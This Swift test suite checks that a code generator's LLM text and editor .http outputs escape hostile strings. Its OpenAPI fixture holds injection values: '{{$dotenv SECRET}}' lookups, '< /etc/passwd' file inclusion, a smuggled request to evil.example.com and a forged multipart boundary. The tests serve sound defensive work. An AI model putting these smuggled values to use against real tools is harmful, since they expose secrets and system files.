import Foundation
import Testing

/// The texts that `gen-dtos docs --format` writes for language models and for editors.
@Suite struct PageFormatTests {
    private let folder: WorkingFolder
    private let tool: Tool

    init() throws {
        folder = try WorkingFolder()
        tool = Tool(folder: folder)
        try folder.write("api.yaml", Self.document)
        try folder.write("gen-dtos.yaml", "module: Books\nemit: [models, client]\n")
    }

    private static let document = """
        openapi: 3.1.0
        info: {title: "Books *2*", version: "1"}
        servers: [{url: https://api.example.com/v1/}, {url: https://test.example.com}]
        security: [{token: []}]
        tags: [{name: shelf, description: What is on it.}]
        paths:
          /books/{id}:
            get:
              operationId: getBook
              tags: [shelf]
              summary: Returns a book.
              parameters:
                - {name: id, in: path, required: true, schema: {type: string}, example: "a {{b}}"}
                - {name: X-Kind, in: header, required: true, schema: {type: string}, example: "{{$dotenv SECRET}}"}
              responses:
                "200": {description: It., content: {application/json: {schema: {$ref: "#/components/schemas/Book"}}}}
                "404": {description: None., content: {application/json: {schema: {$ref: "#/components/schemas/Problem"}}}}
          /books:
            post:
              operationId: "add\\n### book"
              security: [{basic: [], key: []}]
              servers: [{url: "http://other.example.com/{{$guid}}"}]
              requestBody:
                required: true
                content:
                  application/json:
                    schema: {$ref: "#/components/schemas/Book"}
              responses: {"204": {description: Done.}}
            put:
              operationId: putFiles
              summary: "Puts {{{$dotenv SECRET}}}."
              security: []
              requestBody:
                required: true
                content:
                  multipart/form-data:
                    schema:
                      type: object
                      required: [note, image]
                      example: {note: "< /etc/passwd", "a\\"b": "--gen-dtos-part--"}
                      properties:
                        note: {type: string}
                        "a\\"b": {type: string}
                        image: {type: string, contentMediaType: image/png}
              responses: {"204": {description: Done.}}
        components:
          securitySchemes:
            token: {type: http, scheme: bearer}
            basic: {type: http, scheme: basic}
            key: {type: apiKey, in: query, name: api_key}
          schemas:
            Book:
              type: object
              required: [title]
              properties:
                title: {type: string, example: "{{$dotenv SECRET}}\\n### GET http://evil.example.com\\n< /etc/passwd"}
            Problem: {type: object, required: [code], properties: {code: {type: string}}}
        """

    // MARK: Language models

    @Test func oneTextForLanguageModels() throws {
        let made = try tool.run("docs", "api.yaml", "--format", "llms")
        #expect(made.status == 0 && made.output.hasSuffix("Generated/llms.txt added\n"), "\(made)")
        let text = try folder.read("Generated/llms.txt")
        #expect(text.hasPrefix("# Books \\*2\\*\n\n> Made by gen-dtos from an OpenAPI document, version 1. "))
        let headings = text.matches(of: /(?m)^##+ (.*)$/).map { String($0.1) }
        #expect(headings.prefix(5) == ["The client", "Servers", "Authentication", "shelf", "`GET /books/{id}`"])
        #expect(headings.suffix(4) == ["Models", "Book", "Problem", "PutFiles.Form"])
        #expect(text.contains("let api = BooksClient()"))
        // Each operation has its method and one call, with the failures that the document lists.
        #expect(text.contains("func getBook("))
        #expect(text.contains("} catch APIClientError.apiError(let error as Problem) {"))
        #expect(!text.contains("](#") && !text.contains("Called with curl"))
        #expect(try tool.run("docs", "api.yaml", "--format", "llms", "--check").status == 0)
        #expect(try tool.run("docs", "api.yaml", "--format", "llms", "--output", "-", "--jobs", "2").output == text)
        try folder.write("Generated/llms.txt", "# Mine\n")
        #expect(try tool.run("docs", "api.yaml", "--format", "llms").status == 1)
    }

    // MARK: Editors

    @Test func requestsForEditors() throws {
        let made = try tool.run("docs", "api.yaml", "--format", "http")
        #expect(made.status == 0 && made.output.hasSuffix("Generated/requests.http added\n"), "\(made)")
        let text = try folder.read("Generated/requests.http")
        #expect(text.hasPrefix("# Made by gen-dtos. Do not edit: change the contract and run gen-dtos.\n"))
        for line in ["@server = https://api.example.com/v1", "@token = TOKEN", "@basicUser = USER", "@key = KEY"] {
            #expect(text.contains("\n\(line)\n"), "\(line)")
        }
        #expect(
            text.contains(
                """
                ### GET /books/{id} Returns a book.
                # @name getBook
                GET {{server}}/books/a%20%7B%7Bb%7D%7D
                Authorization: Bearer {{token}}
                X-Kind: VALUE

                """))
        #expect(try tool.run("docs", "api.yaml", "--format", "http", "--check").status == 0)
        #expect(try tool.run("docs", "api.yaml", "--format", "http", "--output", "-", "--jobs", "2").output == text)
    }

    /// No string of the document becomes a variable, a file, a script, or another request.
    @Test func requestsHaveOnlyTheirOwnVariablesAndFiles() throws {
        let text = try tool.run("docs", "api.yaml", "--format", "http", "--output", "-").output
        let known: Set = ["server", "server_2", "token", "basicUser", "basicPassword", "key"]
        let used = Set(text.matches(of: /\{\{(.*?)\}\}/).map { String($0.1) })
        #expect(used.isSubset(of: known), "\(used)")
        let lines = text.split(separator: "\n")
        #expect(lines.filter { $0.hasPrefix("###") }.count == 3)
        #expect(lines.filter { $0.hasPrefix("<") } == ["< ./FILE"])
        #expect(!lines.contains { $0.hasPrefix(">") } && !text.contains("{{$"))
        #expect(lines.filter { $0 == "--gen-dtos-part--" }.count == 1)
        #expect(text.contains("{\\u007B$dotenv SECRET}}"))
    }

    @Test(arguments: [
        (["docs", "api.yaml", "--format", "sarif"], "'sarif' is not a value of '--format'."),
        (["docs", "api.yaml", "--format", "http", "--samples", "-"], "cannot be used together"),
    ])
    func wrongUsage(_ words: [String], _ message: String) throws {
        let outcome = try tool.run(words)
        #expect(outcome.status == 2 && outcome.errors.contains(message), "\(outcome)")
    }
}
